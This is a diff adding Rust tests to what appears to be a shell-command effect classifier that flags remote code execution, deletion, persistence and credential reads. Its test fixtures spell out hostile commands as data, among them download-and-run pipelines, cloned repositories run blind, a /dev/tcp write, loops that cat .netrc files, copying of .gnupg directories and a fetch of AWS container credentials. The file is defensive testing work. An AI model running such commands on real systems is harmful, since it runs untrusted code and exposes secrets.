@@ -160,6 +160,13 @@ fn what_comes_from_a_host_and_runs_is_remote_code() {
         "scp ada@x.example:x.sh d/ && sh d/x.sh",
         "curl https://x.example -o l.so; LD_PRELOAD=l.so id",
         "curl https://x.example | make -f -",
+        "curl https://x.example/q.sql | psql -h db.example.org shop",
+        "curl https://x.example -o h.js && node --require ./h.js server.js",
+        "curl https://x.example -o h.rb && ruby -r ./h.rb main.rb",
+        "git clone --depth 1 https://x.example/a/x && make -C x install",
+        "git clone -b dev git://x.example/x.git && cd x && sh ./bootstrap",
+        "git clone https://x.example/x y; ./y/run",
+        "gh repo clone ada/x && bash x/setup.sh",
         "curl https://x.example | parallel",
         "curl https://x.example | ssh y.example bash",
         "ssh y.example 'curl https://x.example | sh'",
@@ -182,6 +189,10 @@ fn what_an_interpreter_gets_as_data_is_no_remote_code() {
         "curl https://x.example | bash script.sh",
         "curl https://x.example | jq .a",
         "curl -o f https://x.example; cat f",
+        "git clone https://x.example/x && cd x && ls",
+        "git clone https://x.example/x && bash ./script.sh",
+        "curl https://x.example -o h.js && node server.js",
+        "psql shop < q.sql; curl https://x.example",
         "curl https://x.example; bash script.sh",
         "bash script.sh; curl https://x.example",
     ] {
@@ -391,4 +402,54 @@ fn what_a_text_writes_and_then_runs_is_followed() {
     }
     let plain = shown("echo 'rm y' > notes.txt; cat notes.txt; bash other.sh");
     assert!(!plain.contains(&"delete y".to_owned()), "{plain:?}");
+}
+
+#[test]
+fn what_is_said_to_programs_of_macos_has_effects() {
+    let kinds = |text: &str| {
+        let found = effects(&crate::plan(text));
+        let kinds: Vec<EffectKind> = found.into_iter().map(|effect| effect.kind).collect();
+        kinds
+    };
+    let trash = kinds("osascript -e 'tell application \"Finder\" to empty the trash'");
+    assert!(trash.contains(&EffectKind::Delete), "{trash:?}");
+    let item = "make login item at end with properties {path:\"/x.app\"}";
+    let login = kinds(&format!("osascript -e '{item}'"));
+    assert!(login.contains(&EffectKind::Persistence), "{login:?}");
+    let plain = kinds("osascript -e 'display dialog \"the trash\"'");
+    assert!(!plain.contains(&EffectKind::Delete), "{plain:?}");
+}
+
+#[test]
+fn a_port_that_cannot_be_told_leaves_the_host_known() {
+    let found = effects(&crate::plan("echo >/dev/tcp/192.0.2.1/$port"));
+    let host = EffectResource::Host("192.0.2.1".to_owned());
+    assert!(found.iter().any(|effect| effect.resource == host));
+}
+
+#[test]
+fn a_search_for_names_of_secrets_that_are_read_is_a_read_of_secrets() {
+    let is_secret = |text: &str| {
+        let found = effects(&crate::plan(text));
+        let mut kinds = found.iter().map(|effect| effect.kind);
+        kinds.any(|kind| kind == EffectKind::Credential)
+    };
+    assert!(is_secret(
+        "for f in $(find /home -name .netrc); do cat $f; done"
+    ));
+    assert!(is_secret(
+        "find / -type d -name .gnupg -exec rsync -R {} /tmp/g \\;"
+    ));
+    assert!(!is_secret("find / -type d -name .gnupg"));
+    assert!(!is_secret("find . -name '*.rs' -exec cat {} +"));
+}
+
+#[test]
+fn the_address_of_the_credentials_of_a_container_is_one() {
+    let found = effects(&crate::plan(
+        "curl http://169.254.170.2$AWS_CONTAINER_CREDENTIALS_RELATIVE_URI",
+    ));
+    assert!(found.iter().any(|it| it.kind == EffectKind::Credential));
+    let other = effects(&crate::plan("curl http://127.0.0.1$HEALTH_PATH"));
+    assert!(!other.iter().any(|it| it.kind == EffectKind::Credential));
 }
